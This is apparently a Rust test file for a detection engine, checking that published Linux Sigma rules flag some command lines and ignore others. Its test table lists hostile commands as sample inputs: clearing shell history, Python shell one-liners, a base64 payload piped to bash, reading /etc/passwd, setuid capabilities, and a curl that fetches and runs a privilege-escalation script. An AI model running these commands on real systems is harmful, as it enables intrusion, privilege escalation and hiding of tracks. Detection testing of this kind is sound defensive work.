//! Rules as they are published for Linux: no `name`, no `vespid` block, fields that a decoy does not have.

use std::fs;
use std::path::Path;

use vespid_engine::lint::{Finding, lint};
use vespid_testkit::event::command;

use crate::{file, load, named};

/// By file: lines that it tags, and lines that it does not.
const RULES: &[(&str, &[&str], &[&str])] = &[
    (
        "history_cleared",
        &["ln -sf /dev/null ~/.bash_history", "cd; shred -u .bash_history"],
        &["ln -s /dev/null x", "cat .bash_history", "echo 'ln /dev/null _history'"],
    ),
    (
        "reverse_shell",
        &[
            "python3 -c 'import socket,subprocess; subprocess.call([\"/bin/sh\"])'",
            "nohup python2.7 -c 'import socket,pty; pty.spawn(\"x\")' &",
        ],
        &["python3 -c 'import socket'", "python3 x.py", "perl -c 'import socket /bin/sh'"],
    ),
    (
        "encoded_shell",
        &["echo IyEvYmluL2Jhc2gKaWQK | base64 -d | bash", "printf 'eCMhL2Jpbi9zaAppZAo=' > x"],
        &["echo aWQK | base64 -d", "echo '#!/bin/bash' > x"],
    ),
    (
        "accounts_read",
        &["cat /etc/passwd", "sudo tail -n 3 /etc/group", "lastlog"],
        &["ls -l /etc/passwd", "cat /etc/hosts", "echo cat /etc/passwd"],
    ),
    (
        "capabilities",
        &["setcap cap_setuid+ep /usr/bin/python3"],
        &["setcap cap_net_raw+ep /usr/bin/python3", "getcap -r /"],
    ),
    (
        "tool_by_wildcard",
        &["nmap 192.0.2.0/24", "/tmp/.x/masscan -p22", "/opt/tools/zmap4 -p 22"],
        &["nmap --help", "/opt/zmap4 x", "man nmap"],
    ),
    (
        "keywords",
        &["sh linPEAS.sh", "curl http://192.0.2.1/linenum.sh | sh", "./linux-exploit-suggester-2.sh"],
        &["sh lin.sh", "linux-exploit.sh"],
    ),
    ("parent", &["sudo bash", "sudo sh -c id"], &["bash", "sudo id"]),
];

fn text(name: &str) -> String {
    fs::read_to_string(folder().join(format!("{name}.yml"))).unwrap()
}

fn folder() -> &'static Path {
    Path::new(concat!(env!("CARGO_MANIFEST_DIR"), "/tests/sigma/rules"))
}

#[test]
fn published_rules_run_unchanged() {
    assert_eq!(fs::read_dir(folder()).unwrap().count(), RULES.len(), "each has its lines");
    for (name, hits, misses) in RULES {
        let files = [file(name, &text(name))];
        for line in *hits {
            assert_eq!(named(&files, &command(0, 1, "s", line)).len(), 1, "{name} misses {line:?}");
        }
        for line in *misses {
            assert!(named(&files, &command(0, 1, "s", line)).is_empty(), "{name} hits {line:?}");
        }
    }
}

#[test]
fn they_have_no_errors_and_are_named_by_their_ids() {
    let files: Vec<_> = RULES.iter().map(|(name, ..)| file(name, &text(name))).collect();
    let errors: Vec<_> = lint(&files, vespid_attack::Catalogue::default_release())
        .into_iter()
        .filter(Finding::is_error)
        .collect();
    assert!(errors.is_empty(), "{errors:#?}");
    let (engine, _) = load(&files);
    assert!(engine.rules().iter().all(|rule| rule.id.as_str().starts_with("5f2a1f0e-")));
    let medium = engine.rules().iter().find(|rule| rule.path == "history_cleared.yml").unwrap();
    assert!((medium.emits[0].confidence.get() - 0.65).abs() < 1e-9, "the level is the confidence");
}

/// Tactics in the words of either release mean the same.
#[test]
fn tactics_are_understood_in_both_spellings() {
    let emits = |tactic: &str| {
        let files = [file("r", &text("history_cleared").replace("defense-evasion", tactic))];
        let (engine, problems) = load(&files);
        assert!(problems.is_empty(), "{problems:?}");
        engine.rules()[0].emits.clone()
    };
    let expected = emits("stealth");
    for spelling in ["defense-evasion", "defense_evasion", "ta0005", "Stealth"] {
        assert_eq!(emits(spelling), expected, "{spelling}");
    }
}
